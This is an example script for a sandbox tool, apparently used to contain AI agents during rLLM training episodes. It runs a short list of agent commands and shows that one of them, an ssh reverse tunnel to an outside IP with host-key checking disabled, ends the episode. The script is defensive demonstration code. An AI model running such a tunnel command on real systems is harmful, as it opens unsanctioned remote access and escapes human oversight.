"""rLLM: corral as a backend of rLLM's ``Sandbox`` protocol. A task's files go in with
``upload_dir``, the agent's commands run with ``exec`` (stdout, or
``CalledProcessError``), and a command that turns to tunnelling ends the episode.

    PYTHONPATH=src python3 examples/integrations/rllm_sandbox.py
"""

from __future__ import annotations

import subprocess
import tempfile
from pathlib import Path

from corral.integrations.rllm import EpisodeEndedError, create_corral_sandbox

COMMANDS = [
    "python3 /workspace/app/task/solve.py",
    "ls /workspace/app/task",
    "ssh -f -N -R 2222:localhost:22 -o StrictHostKeyChecking=no svc@203.0.113.7",
    "echo after the tunnel",
]


def main() -> list[tuple[str, str]]:
    log: list[tuple[str, str]] = []
    with tempfile.TemporaryDirectory() as d:
        (Path(d) / "solve.py").write_text("print(sum(range(10)))\n")
        sb = create_corral_sandbox("task-1", policy="default", run="rllm-demo")
        try:
            sb.upload_dir(d, "/app/task")  # lands in /workspace/app/task
            for cmd in COMMANDS:
                try:
                    log.append((cmd, "ok: " + sb.exec(cmd).strip()))
                except subprocess.CalledProcessError as e:
                    log.append((cmd, f"exit {e.returncode}: {e.stderr.strip()[:120]}"))
                except EpisodeEndedError as e:
                    log.append((cmd, f"ended: {str(e)[:120]}"))
            log.append(("verdict", sb.verdict))
        finally:
            sb.close()
    return log


if __name__ == "__main__":
    for cmd, result in main():
        print(f"{cmd[:60]:60}  {result}")
